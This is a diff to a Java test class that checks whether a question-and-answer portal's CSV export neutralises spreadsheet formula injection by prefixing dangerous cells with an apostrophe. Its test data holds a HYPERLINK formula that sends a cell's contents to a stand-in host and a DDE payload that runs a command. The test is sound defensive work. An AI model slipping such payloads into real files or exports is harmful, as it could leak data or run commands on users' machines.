@@ -235,6 +235,39 @@ class PublishedAnswersTest {
         assertThat(written(DataFile.FEEDBACK, false)).contains("\"du_lieu\":[\n]");
     }
 
+    /** Whoever opens the file with a spreadsheet opens text, whatever somebody called their question. */
+    @Test
+    void nothingInAFileIsComputed() throws Exception {
+        var id = h2.send("question");
+        h2.deed(id, (desk, sheet) -> desk.assign(id, sheet.unit(), sheet.version(), "van-phong"));
+        h2.actAs("responder");
+        h2.deed(
+                id,
+                (desk, sheet) -> desk.draft(
+                        id,
+                        sheet.unit(),
+                        sheet.version(),
+                        "Bảy ngày.",
+                        "=HYPERLINK(\"http://x.example/?\"&A1)",
+                        "\t@SUM(1+1)*cmd|' /C calc'!A0",
+                        "+84 lần, -2 ngày"));
+        h2.actAs("approver");
+        h2.deed(id, (desk, sheet) -> desk.approve(id, sheet.unit(), sheet.version()));
+        h2.deed(id, (desk, sheet) -> desk.answer(id, sheet.unit(), sheet.version()));
+        h2.deed(id, (desk, sheet) -> desk.publish(id, sheet.unit(), sheet.version()));
+
+        try (var parsed = CSVFormat.DEFAULT
+                .builder()
+                .setHeader()
+                .get()
+                .parse(new StringReader(written(DataFile.QUESTIONS, true).substring(1)))) {
+            var row = parsed.getRecords().getFirst();
+            assertThat(row.get("tieu_de")).startsWith("'=HYPERLINK");
+            assertThat(row.get("cau_hoi")).startsWith("'@SUM");
+            assertThat(row.get("tra_loi")).startsWith("'+84");
+        }
+    }
+
     @Test
     void figuresTellOfMonthsAndUnits() throws Exception {
         published("question", "");
